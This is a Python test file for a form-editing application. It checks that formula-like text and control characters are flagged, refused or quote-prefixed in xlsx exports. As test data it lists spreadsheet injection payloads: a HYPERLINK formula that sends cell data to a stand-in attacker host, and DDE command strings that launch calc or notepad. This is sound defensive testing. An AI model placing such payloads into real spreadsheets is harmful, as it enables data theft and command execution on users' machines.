"""Formula-like text and control characters in a form (red team 2026-12-07 03h, finding 8). A person's edit holding
a control character, a non-character or a bidirectional override is refused with the field named (real SQLite store,
rules only); review warns of a formula-like line (TEXT-FORMULA) or a control character (TEXT-CONTROL) in any section
or indicator; the .xlsx export stores every text cell starting with = + - @ (or tab/CR) with quotePrefix, so editing
it in Excel keeps it text, and LibreOffice still opens the file and shows the text, not a computed result."""

from __future__ import annotations

import csv
import subprocess

import openpyxl
import pytest
from test_review_engine import _clean, _replace, _section
from web_support import web_settings

from assistant.domain.brief import example_brief
from assistant.domain.model import SectionKind
from assistant.errors import InputError
from assistant.office.export_xlsx import export_xlsx
from assistant.review.engine import review
from assistant.services import build_services
from assistant.services.editing import FieldEdit

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
FORMULAS = [
    HYPERLINK,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "=A1*10",
    "＝ＩＭＰＯＲＴＸＭＬ(A1,B1)",
    "\t=WEBSERVICE(A2)",
]
NOT_FORMULAS = ["=100(%)", "- 第一项：培训", "+5%", "-", "@张三负责", "≥95(%)"]
CONTROLS = ["\x01", "\x0b", "\x1b[31m", "\x7f", "\x85", "\ufffe", "\u202e"]


def _fired(decl, rule: str) -> list[str]:
    return [f.message for f in review(decl).findings if f.rule_id == rule]


@pytest.mark.parametrize("text", FORMULAS)
def test_review_warns_of_a_formula_like_name_and_section_line(corpus, text):
    assert _fired(_replace(_clean(corpus), 72, name=text), "TEXT-FORMULA")
    decl = _section(SectionKind.NECESSITY, "项目必要性。\n" + text)(_clean(corpus))
    assert any("必要性" in m for m in _fired(decl, "TEXT-FORMULA"))


@pytest.mark.parametrize("text", NOT_FORMULAS)
def test_ordinary_text_starting_with_a_sign_is_not_a_formula(corpus, text):
    decl = _section(SectionKind.NECESSITY, text + "\n项目必要性。")(_clean(corpus))
    assert not _fired(decl, "TEXT-FORMULA")


@pytest.mark.parametrize("char", CONTROLS)
def test_review_warns_of_a_control_character(corpus, char):
    decl = _section(SectionKind.NECESSITY, f"必要性正文{char}含控制字符")(_clean(corpus))
    assert any(f"U+{ord(char[0]):04X}" in m for m in _fired(decl, "TEXT-CONTROL"))
    assert _fired(_replace(_clean(corpus), 72, name=f"年度运维{char}报告完成数"), "TEXT-CONTROL")


def test_the_clean_declaration_has_neither(corpus):
    decl = _clean(corpus)
    assert not _fired(decl, "TEXT-FORMULA") and not _fired(decl, "TEXT-CONTROL")


@pytest.fixture(scope="module")
def services(tmp_path_factory):
    opened = build_services(web_settings(tmp_path_factory.mktemp("cells") / "data"))
    yield opened
    opened.close()


@pytest.mark.parametrize("char", CONTROLS)
@pytest.mark.parametrize("path", ["section.necessity", "indicator.2.name", "header.implementer"])
def test_an_edit_with_a_control_character_is_refused_with_the_field_named(services, path, char):
    ws = services.workspace()
    draft_id = ws.draft(example_brief(), on_event=lambda _: None).info.draft_id
    with pytest.raises(InputError) as refused:
        ws.edit_fields(draft_id, [FieldEdit(path, f"正文{char}内容")], base=1)
    message = str(refused.value)
    if not path.startswith("header"):  # the brief's own validation refuses a header field in its words
        assert f"控制字符（U+{ord(char[0]):04X}）" in message and "未保存" in message
    assert max(v.number for v in ws.history(draft_id)) == 1  # nothing saved
    saved, _ = ws.edit_fields(
        draft_id, [FieldEdit(path, "正文\t内容\n第二行" if path.startswith("section") else "正文")], base=1
    )
    assert saved.info.number == 2  # tab and line feed are text; the next edit saves


def test_xlsx_cells_that_start_like_a_formula_are_quote_prefixed_and_libreoffice_shows_text(corpus, tmp_path):
    clean = _clean(corpus)
    decl = _section(SectionKind.NECESSITY, "@SUM(1+1)*cmd|' /C calc'!A0")(_replace(clean, 72, name=HYPERLINK))
    path = tmp_path / "form.xlsx"
    export_xlsx(decl, path)
    sheet = openpyxl.load_workbook(path).active
    risky = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0"} <= {c.value for c in risky}
    assert all(c.data_type == "s" and c.quotePrefix for c in risky), [(c.coordinate, c.value) for c in risky]
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = [
        "soffice",
        profile,
        "--headless",
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76",
        "--outdir",
        str(tmp_path / "out"),
        str(path),
    ]
    subprocess.run(command, check=True, timeout=300, capture_output=True)
    with open(tmp_path / "out" / "form.csv", encoding="utf-8", errors="replace") as handle:
        cells = {cell for row in csv.reader(handle) for cell in row}
    assert HYPERLINK in cells and "点击查看" not in cells  # the text itself, never a computed link
